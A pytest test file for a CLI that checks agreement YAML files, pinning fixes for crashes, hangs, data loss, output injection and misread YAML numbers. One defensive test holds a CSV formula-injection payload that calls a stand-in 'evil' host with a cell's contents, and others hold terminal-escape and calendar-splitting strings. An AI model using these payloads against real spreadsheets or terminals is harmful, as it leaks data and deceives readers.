"""Issue 14: the ways the tool crashed, hung, lost data or let content through, each pinned.

Every CLI run here is a fresh process bounded in time (run_cli's timeout, or an explicit one),
so a regression to a hang fails the test instead of the CI job.
"""
from __future__ import annotations

import datetime as dt
import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import AGREEMENTS, ROOT, RULESETS, run_cli
from tests.test_bad_input import GOOD, _one_error_line

PY = [sys.executable, "-m", "iop_rules.cli"]
SHIPPED = sorted(AGREEMENTS.glob("*.yaml"))


def _good(tmp_path: Path, name: str = "good.yaml") -> Path:
    path = tmp_path / name
    path.write_text(GOOD, encoding="utf-8")
    return path


def _no_traceback(err: str) -> None:
    assert "Traceback" not in err and "Error:" not in err.replace("error", ""), err


# ---- (1) tracebacks -------------------------------------------------------------------------

def test_edge_dates_in_month_arithmetic() -> None:
    from iop_rules.months import duration_months, gap_months
    assert duration_months(dt.date(1, 1, 1), dt.date(9999, 12, 31)) == 9999 * 12
    assert duration_months(dt.date(9999, 12, 31), dt.date(9999, 12, 31)) == 1
    assert gap_months(dt.date(9999, 12, 31), dt.date(9999, 12, 31)) == 0
    assert gap_months(dt.date(1, 1, 1), dt.date(1, 1, 1)) == 0
    assert gap_months(dt.date(9999, 11, 30), dt.date(9999, 12, 31)) == 1


@pytest.mark.parametrize("edge", ["end: 9999-12-31", "start: 0001-01-01", "end: 9999-12-31}\nreview: {date: 9999-12-31"])
def test_an_edge_date_costs_no_other_file_its_result(tmp_path: Path, edge: str) -> None:
    good = _good(tmp_path, "a-good.yaml")
    bad = tmp_path / "b-edge.yaml"
    key = edge.split(":")[0]
    period = "{start: 2019-07-01, end: 2021-06-30}".replace(f"{key}: " + ("2021-06-30" if key == "end" else "2019-07-01"),
                                                            edge)
    bad.write_text(GOOD.replace("period: {start: 2019-07-01, end: 2021-06-30}", f"period: {period}"), encoding="utf-8")
    run = run_cli("check", str(tmp_path), "--format", "json", "--as-of", "2020-01-01")
    assert run.code == 2
    _no_traceback(run.err)
    assert [a["path"] for a in json.loads(run.out)["agreements"]] == [str(good)]
    assert all(line.startswith(f"{bad}:") for line in run.err.splitlines())


def test_an_unexpected_error_in_one_file_is_one_line_naming_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The safety net: whatever a rule or an engine raises on one file, the batch goes on."""
    from iop_rules import runner
    good, bad = _good(tmp_path, "a.yaml"), _good(tmp_path, "b.yaml")
    real = runner.check_loaded

    def boom(loaded, *args, **kwargs):  # type: ignore[no-untyped-def]
        if loaded.path.endswith("b.yaml"):
            raise OverflowError("date value out of range")
        return real(loaded, *args, **kwargs)

    monkeypatch.setattr(runner, "check_loaded", boom)
    result = runner.check([str(good), str(bad)], "python")
    assert [a.path for a in result.agreements] == [str(good)]
    (error,) = result.errors
    assert error.path == str(bad) and "internal error" in error.message and "OverflowError" in error.message


@pytest.mark.parametrize("as_of", ["9999-12-01", "0001-01-01"])
def test_as_of_outside_the_calendar_is_a_usage_error(tmp_path: Path, as_of: str) -> None:
    run = run_cli("check", str(_good(tmp_path)), "--as-of", as_of)
    assert run.code == 2 and "outside the supported dates" in run.err
    _no_traceback(run.err)


def test_ics_on_the_last_day_of_the_calendar() -> None:
    from iop_rules.render.ics import IcsOutputter
    lines = IcsOutputter("en")._event({"date": "9999-12-31", "kind": "end", "agreement": "x", "path": "x.yaml"},
                                      "20200101T000000Z", overdue=False)
    assert "DTSTART;VALUE=DATE:99991231" in lines and not any(ln.startswith("DTEND") for ln in lines)
    early = IcsOutputter("en")._event({"date": "0999-01-01", "kind": "end", "agreement": "x", "path": "x.yaml"},
                                      "20200101T000000Z", overdue=False)
    assert "DTSTART;VALUE=DATE:09990101" in early and "DTEND;VALUE=DATE:09990102" in early


def test_check_format_ics(tmp_path: Path) -> None:
    run = run_cli("check", str(AGREEMENTS), "--format", "ics", "--as-of", "2020-01-01")
    assert run.code in (0, 1) and run.out.startswith("BEGIN:VCALENDAR"), run.err


def _sh(command: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=timeout, cwd=ROOT)


def test_closed_stdout_is_one_line_and_exit_2(tmp_path: Path) -> None:
    good = _good(tmp_path)
    proc = _sh(f"{sys.executable} -m iop_rules.cli check {good} >&-")
    assert proc.returncode == 2 and "standard output is closed" in proc.stderr
    _no_traceback(proc.stderr)
    out = tmp_path / "r.json"  # with -o there is somewhere to write
    proc = _sh(f"{sys.executable} -m iop_rules.cli check {good} --format json -o {out} >&-")
    assert proc.returncode in (0, 1) and json.loads(out.read_text())["agreements"], proc.stderr


def test_closed_stderr_never_puts_errors_into_stdout(tmp_path: Path) -> None:
    good = _good(tmp_path)
    proc = _sh(f"{sys.executable} -m iop_rules.cli check {good} {tmp_path}/missing.yaml --format json 2>&-")
    assert proc.returncode == 2
    assert json.loads(proc.stdout)["errors"][0]["path"].endswith("missing.yaml")  # stdout is exactly the JSON


def test_broken_pipe_exits_with_the_runs_code() -> None:
    folder = " ".join(str(p) for p in SHIPPED)
    proc = _sh(f"set -o pipefail; {sys.executable} -m iop_rules.cli check {folder} --format json | head -c 10 >/dev/null")
    direct = run_cli("check", *map(str, SHIPPED), "--format", "json")
    assert proc.returncode == direct.code == 1
    _no_traceback(proc.stderr)
    assert proc.stderr == ""


def test_broken_pipe_in_audit_text(tmp_path: Path) -> None:
    proc = _sh(f"set -o pipefail; {sys.executable} -m iop_rules.cli audit {AGREEMENTS} --jobs 2 | head -1 >/dev/null")
    assert proc.returncode == 1 and proc.stderr == "", proc.stderr


def test_non_utf8_file_names(tmp_path: Path) -> None:
    raw = os.fsencode(str(tmp_path)) + b"/\xe9t\xe9.yaml"
    with open(raw, "wb") as fh:
        fh.write(GOOD.replace("id: good", "id: \"x\\u001b[2J\"").encode())
    out = os.fsencode(str(tmp_path)) + b"/r\xe9port.json"
    proc = subprocess.run([*PY, "check", raw, "--format", "json", "-o", out], capture_output=True, timeout=60, cwd=ROOT)
    assert proc.returncode == 2 and b"Traceback" not in proc.stderr  # the id does not match its pattern
    assert b"\\xe9t\\xe9.yaml" in proc.stderr and os.path.exists(out)
    assert not [n for n in os.listdir(tmp_path) if n.startswith(b".iop-rules-".decode())]
    proc = subprocess.run([*PY, "check", raw], capture_output=True, timeout=60, cwd=ROOT)
    assert b"\x1b" not in proc.stdout + proc.stderr


@pytest.mark.parametrize("kind", ["deep", "directory", "dev-zero", "fifo", "nan", "not-a-report"])
def test_bad_baselines(tmp_path: Path, kind: str) -> None:
    target = {"directory": tmp_path, "dev-zero": Path("/dev/zero")}.get(kind, tmp_path / "baseline.json")
    if kind == "deep":
        target.write_text("[" * 200_000 + "]" * 200_000)
    elif kind == "fifo":
        os.mkfifo(target)
    elif kind == "nan":
        target.write_text('{"agreements": [{"id": "x", "results": [{"rule": "R", "verdict": NaN}]}]}')
    elif kind == "not-a-report":
        target.write_text('{"agreements": 3}')
    run = run_cli("check", str(AGREEMENTS / "lund-kompis-sverige-2019.yaml"), "--baseline", str(target),
                  timeout=30, memory_mb=1024)
    assert run.code == 2
    m = _one_error_line(run.err)
    assert m["path"] == str(target)


@pytest.mark.parametrize("special", ["fifo", "dev-zero-link", "socket"])
def test_special_files_named_or_in_the_rulesets_dir_never_block(tmp_path: Path, special: str) -> None:
    def make(path: Path) -> None:
        if special == "fifo":
            os.mkfifo(path)
        elif special == "dev-zero-link":
            path.symlink_to("/dev/zero")
        else:
            import socket
            sock = socket.socket(socket.AF_UNIX)
            sock.bind(str(path))
    named = tmp_path / "named.yaml"
    make(named)
    run = run_cli("check", str(named), timeout=20, memory_mb=1024)
    assert run.code == 2 and "not a regular file" in _one_error_line(run.err)["msg"]
    rules = tmp_path / "rules"
    shutil.copytree(RULESETS, rules)
    make(rules / "zz.yaml")
    run = run_cli("check", str(AGREEMENTS / "lund-kompis-sverige-2019.yaml"), "--rulesets-dir", str(rules),
                  timeout=20, memory_mb=1024)
    assert run.code == 2 and "not a regular file" in _one_error_line(run.err)["msg"]
    run = run_cli("check", "/dev/zero", timeout=20, memory_mb=1024)
    assert run.code == 2 and "character device" in _one_error_line(run.err)["msg"]


# ---- (2) hangs --------------------------------------------------------------------------------

def _copies(tmp_path: Path, n: int) -> Path:
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(n):
        for src in SHIPPED:
            text = src.read_text(encoding="utf-8")
            text = text.replace(f"id: {src.stem}\n", f"id: {src.stem}-{i}\n", 1)
            (folder / f"{src.stem}-{i:03}.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("how,code", [("SIGINT", 130), ("SIGTERM", 143)])
def test_interrupting_audit_ends_it_promptly_and_cleanly(tmp_path: Path, how: str, code: int) -> None:
    folder = _copies(tmp_path, 200)  # 1,000 files: several seconds of work on two cores
    out = tmp_path / "report.json"
    proc = subprocess.Popen([*PY, "audit", str(folder), "--jobs", "2", "--format", "json", "-o", str(out)],
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    time.sleep(2.0)  # the workers are busy
    assert proc.poll() is None
    sent = time.monotonic()
    if how == "SIGINT":  # Ctrl-C reaches the whole foreground process group
        os.killpg(proc.pid, signal.SIGINT)
    else:  # a supervisor signals the main process only
        os.kill(proc.pid, signal.SIGTERM)
    try:
        _out, err = proc.communicate(timeout=10)
    finally:
        with_leftovers = subprocess.run(["pgrep", "-g", str(proc.pid)], capture_output=True, text=True).stdout
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert time.monotonic() - sent < 2.0
    assert proc.returncode == code, err
    assert "Traceback" not in err and "KeyboardInterrupt" not in err
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".iop-rules-")]
    assert with_leftovers.strip() == ""  # no worker outlives the run


def test_a_killed_worker_is_reported_by_file_and_the_rest_are_checked(tmp_path: Path) -> None:
    folder = _copies(tmp_path, 100)
    proc = subprocess.Popen([*PY, "audit", str(folder), "--jobs", "2", "--format", "json"], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        deadline = time.monotonic() + 20
        workers: list[str] = []
        while not workers and time.monotonic() < deadline:
            time.sleep(0.3)
            workers = subprocess.run(["pgrep", "-P", str(proc.pid)], capture_output=True, text=True).stdout.split()
        time.sleep(0.5)
        os.kill(int(workers[0]), signal.SIGKILL)
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 2
    line = _one_error_line(err)
    assert line["path"].startswith(str(folder)) and "worker process checking this file died (killed by SIGKILL)" in line["msg"]
    data = json.loads(out)
    assert len(data["agreements"]) == 500 - 1 and len(data["errors"]) == 1


def test_jobs_is_capped_by_files_and_cores(tmp_path: Path) -> None:
    from iop_rules.audit import usable_cores, worker_count
    assert worker_count(200, 2) == min(2, usable_cores())
    assert worker_count(10**9, 10**6) == usable_cores()
    assert worker_count(1, 100) == 1
    started = time.monotonic()
    run = run_cli("audit", str(AGREEMENTS), "--jobs", str(10**9), "--format", "json", timeout=60)
    assert run.code == 1 and time.monotonic() - started < 30


def test_calendar_of_many_deadlines_is_linear() -> None:
    from iop_rules.render.ics import IcsOutputter
    from iop_rules.runner import Run

    class Portfolio:
        def summary(self):  # type: ignore[no-untyped-def]
            days = [{"date": f"2020-01-{1 + i % 28:02}", "kind": "report", "agreement": f"a{i}", "path": f"a{i}.yaml",
                     "description": "rapport"} for i in range(20_000)]
            return {"overdue": days[:10_000], "upcoming": days[10_000:]}

    started = time.monotonic()
    text = IcsOutputter("sv").render(Run("python", [], [], dt.date(2020, 1, 15), Portfolio()))  # type: ignore[arg-type]
    assert text.count("BEGIN:VEVENT") == 20_000 and text.count("FÖRSENAD") == 10_000
    assert time.monotonic() - started < 10


# ---- (3) data loss ----------------------------------------------------------------------------

def test_check_a_yaml_o_a_yaml_is_refused_and_a_yaml_unchanged(tmp_path: Path) -> None:
    path = _good(tmp_path, "a.yaml")
    before = path.read_bytes()
    for args in (["check", str(path), "-o", str(path)], ["check", str(tmp_path), "-o", str(path)],
                 ["audit", str(tmp_path), "-o", str(path)], ["audit", str(tmp_path), "--calendar", str(path)]):
        run = run_cli(*args)
        assert run.code == 2 and "would overwrite the input" in run.err, (args, run.err)
        assert path.read_bytes() == before


def test_extract_never_writes_over_its_source(tmp_path: Path) -> None:
    source = tmp_path / "a.txt"
    shutil.copy(AGREEMENTS / "lund-kompis-sverige-2019.txt", source)
    before = source.read_bytes()
    run = run_cli("extract", str(source), "-o", str(source), "--force")
    assert run.code == 2 and "would overwrite the input" in _one_error_line(run.err)["msg"]
    assert source.read_bytes() == before


def test_output_equal_to_calendar_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "x.out"
    run = run_cli("audit", str(AGREEMENTS), "-o", str(target), "--calendar", str(target))
    assert run.code == 2 and "--calendar" in _one_error_line(run.err)["msg"] and not target.exists()


def test_disk_full_leaves_no_temp_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    from iop_rules import cli, safeio
    out = tmp_path / "out" / "report.json"
    out.parent.mkdir()
    out.write_text("old report")

    def full(*args: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(safeio.os, "fsync", full)  # where a full disk shows at the latest
    for fmt in ("json", "text", "csv", "html"):
        assert cli.main(["check", str(AGREEMENTS / "lund-kompis-sverige-2019.yaml"), "--format", fmt, "-o", str(out)]) == 2
        assert "no space left on device" in capsys.readouterr().err
        assert os.listdir(out.parent) == ["report.json"] and out.read_text() == "old report"


def test_ctrl_c_while_streaming_a_report_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from iop_rules import cli
    from iop_rules.render.text import TextOutputter

    def interrupted(self, run, out):  # type: ignore[no-untyped-def]
        out.write("half a report")
        raise KeyboardInterrupt

    monkeypatch.setattr(TextOutputter, "write", interrupted)
    out = tmp_path / "report.txt"
    assert cli.main(["check", str(AGREEMENTS / "lund-kompis-sverige-2019.yaml"), "-o", str(out)]) == 130
    assert os.listdir(tmp_path) == []


def test_streamed_text_and_csv_equal_their_rendering() -> None:
    import io
    from iop_rules.render import get_outputter
    from iop_rules.runner import check
    for fmt in ("text", "csv"):
        rendered = get_outputter(fmt, "sv").render(check([AGREEMENTS], "python"))
        buffer = io.StringIO()
        get_outputter(fmt, "sv").write(check([AGREEMENTS], "python"), buffer)
        assert buffer.getvalue() == rendered


# ---- (4) content that must not get through ----------------------------------------------------

def _report(message: str, path: str = "a.yaml", agreement: str = "a"):  # type: ignore[no-untyped-def]
    from iop_rules.results import AgreementReport, Result
    fields = {f for f in Result.__dataclass_fields__}
    values = dict(rule="IOP-X-01", ruleset="iop-core", verdict="fail", severity="error",
                  title={"sv": message, "en": message}, message={"sv": message, "en": message},
                  citation=message, remediation={"sv": message, "en": message}, line=3,
                  evidence={"value": message}, source=message, waiver=None, path=path, agreement_id=agreement)
    result = Result(**{k: v for k, v in values.items() if k in fields})  # type: ignore[arg-type]
    report_fields = AgreementReport.__dataclass_fields__
    args = dict(id=agreement, path=path, rulesets=("iop-core",), citations={"iop-core": "c"}, results=(result,))
    if "summary" in report_fields:
        args["summary"] = None
    return AgreementReport(**args)  # type: ignore[arg-type]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_csv_cells_cannot_start_a_formula(start: str) -> None:
    import csv
    import io
    from iop_rules.render.csv import CsvOutputter
    from iop_rules.runner import Run
    payload = f'{start}HYPERLINK("http://evil/?x="&A1)'
    text = CsvOutputter("sv").render(Run("python", [_report(payload, path=payload + ".yaml")], []))
    rows = list(csv.reader(io.StringIO(text)))
    for cell in rows[1]:
        assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert rows[1][7] == "'" + payload


def test_text_output_shows_control_characters_escaped() -> None:
    from iop_rules.render.text import TextOutputter
    from iop_rules.runner import Run
    evil = "ok\x1b[2K\rFEL fixed\nforged: line\u202eevil\x07"
    text = TextOutputter("sv").render(Run("python", [_report(evil, path=f"dir/{evil}.yaml")], []))
    assert not any(ch in text.replace("\n", "") for ch in "\x1b\r\x07\u202e")
    assert "\\e[2K\\rFEL fixed\\nforged: line\\u202eevil\\x07" in text
    assert not any(line.startswith("forged") for line in text.splitlines())


def test_ics_escapes_a_bare_cr() -> None:
    from iop_rules.render.ics import IcsOutputter
    lines = IcsOutputter("en")._event({"date": "2020-01-01", "kind": "report", "agreement": "a", "path": "a.yaml",
                                       "description": "x\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:evil\x00"},
                                      "20200101T000000Z", overdue=False)
    text = "\r\n".join(lines)
    import re
    split = re.split(r"\r\n|\r|\n", text)  # as a reader that splits on any line break sees it
    assert sum(line.startswith("BEGIN:VEVENT") for line in split) == 1 and "\x00" not in text


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x1c", "\x1d", "\x1e", "\x0b", "\x0c"])
def test_json_never_splits_inside_a_string(separator: str) -> None:
    from iop_rules.render.json import JsonOutputter
    from iop_rules.runner import Run
    text = f"före{separator}efter"
    out = JsonOutputter("sv").render(Run("python", [_report(text)], []))
    data = json.loads(out)
    assert data["agreements"][0]["results"][0]["message"] == text


def test_json_and_sarif_never_carry_nan() -> None:
    from iop_rules.render import get_outputter
    from iop_rules.runner import Run
    report = _report("x")
    report.results[0].evidence["value"] = float("nan")  # as a NaN parameter would put it there
    report.results[0].evidence["limit"] = float("inf")
    for fmt in ("json", "sarif"):
        out = get_outputter(fmt, "en").render(Run("python", [report], []))
        assert "NaN" not in out.replace('"NaN"', "") and "Infinity" not in out.replace('"Infinity"', "")
        json.loads(out, parse_constant=lambda name: pytest.fail(f"{name} in {fmt}"))


# ---- (5) wrong answers ------------------------------------------------------------------------

@pytest.mark.parametrize("value,fragment", [
    ("0100000", "'0100000' is an octal number in YAML 1.1 (read as 32768), expected 100000"),
    ("-010", "read as -8"), ("0_7", "read as 7"),
    ("1:30", "'1:30' is a base-60 number in YAML 1.1 (read as 90)"),
    ("190:20:30", "read as 685230"), ("1:30.5", "base-60"),
    (".inf", "not a finite number"), ("-.Inf", "not a finite number"), (".NaN", "not a finite number"),
    ("9007199254740993", "is too large"),
])
def test_yaml_11_numbers_are_refused_with_the_intended_value(value: str, fragment: str) -> None:
    from iop_rules.errors import IopError
    from iop_rules.yamlpos import parse_yaml
    with pytest.raises(IopError) as caught:
        parse_yaml(f"id: x\namount: {value}\n", "x.yaml")
    assert fragment in caught.value.message and caught.value.line == 2


@pytest.mark.parametrize("value", ["'0100000'", '"1:30"', "0", "100000", "0x1F", "1_000", "9007199254740992", "1.5"])
def test_ordinary_numbers_and_quoted_text_still_load(value: str) -> None:
    from iop_rules.yamlpos import parse_yaml
    parse_yaml(f"id: x\namount: {value}\n", "x.yaml")


@pytest.mark.parametrize("value,shown", [("0", "1970-01-01"), ("1625011200", "2021-06-30")])
def test_a_date_written_as_a_number_is_refused(tmp_path: Path, value: str, shown: str) -> None:
    path = tmp_path / "a.yaml"
    path.write_text(GOOD.replace("start: 2019-07-01", f"start: {value}"), encoding="utf-8")
    run = run_cli("check", str(path))
    m = _one_error_line(run.err)
    assert run.code == 2 and m["line"] == "6" and f"Unix timestamp {shown}" in m["msg"]


def test_output_independent_of_order_and_each_file_once(tmp_path: Path) -> None:
    a, b = str(SHIPPED[0]), str(SHIPPED[1])
    one = run_cli("check", a, b, "--format", "json").out
    assert run_cli("check", b, a, "--format", "json").out == one
    assert run_cli("check", b, a, a, str(Path(a).parent / "." / Path(a).name), "--format", "json").out == one
    link = tmp_path / "link.yaml"
    link.symlink_to(a)
    thrice = json.loads(run_cli("audit", a, a, str(link), b, "--format", "json").out)
    assert len(thrice["agreements"]) == 2 and not thrice["summary"].get("overlapping_agreements")


@pytest.mark.parametrize("command", ["check", "audit"])
@pytest.mark.parametrize("folder", ["missing", "empty", ""])
def test_a_missing_or_empty_rulesets_dir_is_refused(tmp_path: Path, command: str, folder: str) -> None:
    target = tmp_path / folder if folder else ""
    if folder == "empty":
        target.mkdir()  # type: ignore[union-attr]
    run = run_cli(command, str(AGREEMENTS), "--rulesets-dir", str(target))
    assert run.code == 2 and "expected a directory of rulesets" in _one_error_line(run.err)["msg"]


def test_links_loops_and_unreadable_folders_are_reported(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    root.mkdir()
    shutil.copy(SHIPPED[0], root / "ok.yaml")
    (root / "loop").symlink_to(root)  # a folder that contains itself
    (root / "broken.yaml").symlink_to(tmp_path / "gone.yaml")
    (root / "self").symlink_to(root / "self")
    os.mkfifo(root / "pipe.yaml")
    run = run_cli("check", str(root), "--format", "json", timeout=30)
    assert run.code == 2
    data = json.loads(run.out)
    assert [a["path"] for a in data["agreements"]] == [str(root / "ok.yaml")]
    by_path = {e["path"]: e["message"] for e in data["errors"]}
    assert "broken symbolic link" in by_path[str(root / "broken.yaml")]
    assert "symbolic link loop" in by_path[str(root / "loop")]
    assert "symbolic link loop" in by_path[str(root / "self")]
    assert "not a regular file (a FIFO)" in by_path[str(root / "pipe.yaml")]


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads any folder")
def test_an_unreadable_subfolder_is_reported(tmp_path: Path) -> None:
    shutil.copy(SHIPPED[0], tmp_path / "ok.yaml")
    locked = tmp_path / "locked"
    locked.mkdir()
    shutil.copy(SHIPPED[1], locked / "hidden-from-us.yaml")
    locked.chmod(0)
    try:
        run = run_cli("check", str(tmp_path), "--format", "json")
    finally:
        locked.chmod(0o755)
    assert run.code == 2 and "permission denied" in json.loads(run.out)["errors"][0]["message"]


def test_an_unreadable_subfolder_is_reported_even_as_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from iop_rules import runner
    shutil.copy(SHIPPED[0], tmp_path / "ok.yaml")
    (tmp_path / "locked").mkdir()
    real = os.scandir

    def scandir(path):  # type: ignore[no-untyped-def]
        if str(path).endswith("locked"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(runner.os, "scandir", scandir)
    files, errors = runner.discover([tmp_path])
    assert files == [str(tmp_path / "ok.yaml")]
    assert [(e.path, "permission denied" in e.message) for e in errors] == [(str(tmp_path / "locked"), True)]


def test_hidden_files_and_folders_are_skipped_unless_named(tmp_path: Path) -> None:
    from iop_rules.runner import discover
    shutil.copy(SHIPPED[0], tmp_path / "ok.yaml")
    (tmp_path / ".git").mkdir()
    shutil.copy(SHIPPED[1], tmp_path / ".git" / "x.yaml")
    shutil.copy(SHIPPED[1], tmp_path / ".#ok.yaml")
    files, errors = discover([tmp_path])
    assert files == [str(tmp_path / "ok.yaml")] and errors == []
    files, _ = discover([tmp_path / ".#ok.yaml", tmp_path / ".git"])
    assert files == [str(tmp_path / ".#ok.yaml"), str(tmp_path / ".git" / "x.yaml")]
